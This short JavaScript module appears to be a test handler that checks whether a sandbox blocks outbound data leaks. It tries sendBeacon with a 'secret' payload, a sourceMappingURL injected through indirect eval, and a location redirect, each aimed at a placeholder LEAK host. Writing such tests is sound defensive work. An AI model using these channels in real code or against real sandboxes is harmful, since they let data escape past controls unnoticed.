import { attempts, scope } from './attempts.mjs';
const LEAK = process.env.LEAK;
export const handler = () => attempts({
  beacon: () => scope.navigator.sendBeacon(`${LEAK}/beacon`, 'secret'),
  observer: () => { new scope.ReportingObserver(() => {}).observe(); throw new Error('it reports to code alone'); },
  sourceMap: () => { (0, eval)(`1\n//# sourceMappingURL=${LEAK}/map`); throw new Error('nothing came of it'); },
  located: () => { scope.location.href = `${LEAK}/location`; throw new Error('it stays where it is'); },
});
